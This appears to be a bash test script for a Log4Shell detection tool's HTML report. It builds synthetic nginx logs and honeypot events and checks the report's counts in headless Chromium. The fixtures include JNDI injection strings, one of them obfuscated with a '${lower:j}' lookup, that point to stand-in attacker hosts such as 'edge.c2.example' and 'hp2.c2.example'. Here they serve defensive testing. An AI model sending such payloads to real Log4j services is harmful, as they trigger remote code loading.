#!/usr/bin/env bash
# report_browser.sh -- `defuse report` opened in headless Chromium (issue 14):
# inputs are `defuse logs --json --summary` over the bundled samples, events
# of the real honeypot (curl on loopback) and nginx defuse_log lines in both
# spellings of the client (request.client, request.src_ip); the page must
# load with no console error and no network request, in under 1 s, and the
# numbers read back from its DOM must equal what the inputs hold (counted
# here in Python, independently of report/).  Screenshots at desktop and
# phone widths go to $DEFUSE_BUILD/test-artifacts/report/.  Then the same
# page is built from raw logs (scanned by the report itself) and must agree
# with `defuse logs`.
source "$(dirname "$0")/report_lib.bash"

"$DEFUSE" logs --json --summary "$DEFUSE_SRC/samples/" >"$T/logs.jsonl" || [ $? -eq 1 ]

# nginx defuse_log: today's "client" and the renamed "src_ip", block/detect/pass
"$PY" - "$T/nginx.jsonl" <<'EOF'
import json, sys
out = open(sys.argv[1], "w")
def line(t, client, key, action, status, kind=None, host=None, port=None, event=None):
    o = {"time": "2021-12-10T%s+00:00" % t, "request": {key: client, "method": "GET", "uri": "/", "host": "shop.example"},
         "part": "header:User-Agent", "action": action, "status": status}
    if key == "src_ip":
        o["schema"] = "defuse.nginx/1"
    if kind:
        o.update({"kind": kind, "payload": "\\u0024{jndi:ldap://%s/a}" % host, "callback": "ldap://%s/a" % host,
                  "scheme": "ldap", "host": host, "port": port, "exfil": [], "techniques": [], "command": None})
    if event:
        o.update({"partial": True, "event": event, "bytes": 600031, "scanned": 524288})
    out.write(json.dumps(o) + "\n")
for i in range(9):
    line("14:%02d:00" % i, "10.20.30.40" if i % 3 == 0 else "203.0.113.9", "client", "block", 403, "jndi", "edge.c2.example", 1389)
for i in range(4):
    line("15:%02d:00" % i, "203.0.113.9", "src_ip", "detect", 0, "jndi", "edge.c2.example", 1389)
line("16:00:00", "198.51.100.77", "src_ip", "pass", 0, event="params_limit")
line("16:01:00", "198.51.100.77", "client", "block", 413, event="body_limit")
EOF

HP=0
if honeypot_events "$T/hp.jsonl" '${jndi:ldap://hp1.c2.example:1389/a}' \
        '${${lower:j}ndi:rmi://hp2.c2.example:1099/b}' 'Mozilla/5.0 (harmless)'; then
    HP=1
    ok "real honeypot events: $(wc -l <"$T/hp.jsonl") lines"
else
    echo "note: the honeypot could not run here; its section is not checked" >&2
    : >"$T/hp.jsonl"
fi

"$DEFUSE" report -o "$T/report.html" --internal 127.0.0.0/8 --now 2021-12-11T00:00:00Z \
    "$T/logs.jsonl" "$T/nginx.jsonl" "$T/hp.jsonl" || fail "defuse report exited $?"
size=$(stat -c %s "$T/report.html")
[ "$size" -le 2097152 ] || fail "page is $size bytes"
ok "page written ($size bytes)"

# What the inputs hold, counted independently of report/.
"$PY" - "$T" "$HP" >"$T/expect.json" <<'EOF'
import collections, json, sys
T, hp = sys.argv[1], sys.argv[2] == "1"
kinds = ["jndi", "text4shell", "recursion", "lookup", "inert"]
kc = collections.Counter(); src = collections.Counter(); hosts = collections.Counter()
acts = collections.Counter(); listeners = collections.Counter(); protos = collections.Counter()
findings = 0; hp_events = 0
for l in open(T + "/logs.jsonl"):
    o = json.loads(l)
    if o.get("summary"):
        continue
    findings += 1; kc[o["kind"]] += 1
    if o.get("src_ip"): src[o["src_ip"]] += 1
    if o.get("host"): hosts[o["host"]] += 1
for l in open(T + "/nginx.jsonl"):
    o = json.loads(l); acts[o["action"]] += 1
    if "kind" in o:
        findings += 1; kc[o["kind"]] += 1; hosts[o["host"]] += 1
        r = o["request"]; src[r.get("src_ip") or r.get("client")] += 1
for l in open(T + "/hp.jsonl"):
    o = json.loads(l); hp_events += 1
    if "listener" in o: listeners[o["listener"]] += 1
    if "protocol" in o: protos[o["protocol"]] += 1
    for f in o.get("findings", []):
        findings += 1; kc[f["kind"]] += 1
        if f.get("host"): hosts[f["host"]] += 1
        src[o["src_ip"]] += 1
import ipaddress
nets = [ipaddress.ip_network(n) for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "fc00::/7",
                                          "127.0.0.0/8")]  # RFC 1918, RFC 4193, --internal
seen = set(src)
for l in open(T + "/hp.jsonl"):
    seen.add(json.loads(l).get("src_ip"))
internal = {a for a in seen if a and any(ipaddress.ip_address(a) in n for n in nets)}
ids = {"n-internal": len(internal), "n-findings": findings, "n-nginx-blocked": acts["block"], "n-nginx-detected": acts["detect"],
       "n-nginx-passed": acts["pass"]}
for k in kinds:
    ids["n-kind-" + k] = kc[k]
def top(c):  # most common, first seen on ties: as the report orders them
    return max(c.items(), key=lambda kv: kv[1])[0]
exp = {"ids": ids, "first_rows": {"top-sources": top(src)},
       "present": ["spike", "who", "what", "edge", "next"], "absent": ["exposure"]}
if hp:
    ids["n-hp-events"] = hp_events
    exp["rows"] = {"hp-listeners": dict(listeners), "hp-protocols": dict(protos)}
# the top callback host, defanged as the page shows it (a plain host: dots as [.])
if "$" not in top(hosts):
    exp["first_rows"]["callback-hosts"] = top(hosts).replace(".", "[.]")
json.dump(exp, sys.stdout)
EOF
# internal sources are highlighted: 10.20.30.40 (RFC 1918) and, with
# --internal 127.0.0.0/8, the honeypot's loopback client
grep -q 'class="internal"' "$T/report.html" || fail "no internal row highlighted"
grep -q '10.20.30.40' "$T/report.html" || fail "internal source 10.20.30.40 missing"
ok "internal sources highlighted"

# Raw logs scanned by the report itself agree with `defuse logs`.
"$DEFUSE" report -o "$T/raw.html" --now 2021-12-11T00:00:00Z "$DEFUSE_SRC/samples/" ||
    fail "defuse report on raw logs exited $?"
"$PY" - "$T/logs.jsonl" >"$T/expect-raw.json" <<'EOF'
import json, sys
s = [json.loads(l) for l in open(sys.argv[1])][-1]
assert s.get("summary")
ids = {"n-findings": s["findings"], "n-lines": s["lines"]}
for k, v in s["kinds"].items():
    ids["n-kind-" + k] = v
json.dump({"ids": ids, "first_rows": {"top-sources": s["top_sources"][0]["value"]},
           "present": ["spike", "who", "what"], "absent": ["edge", "exposure"]}, sys.stdout)
EOF
browser "$T/report.html" "$T/expect.json" inputs "$T/raw.html" "$T/expect-raw.json" raw ||
    fail "browser checks"
ok "numbers read back from the DOM equal the inputs; no console error, no request"
ok "raw logs: findings, kinds, lines and top source equal defuse logs --summary"
echo "screenshots in $SHOTS"
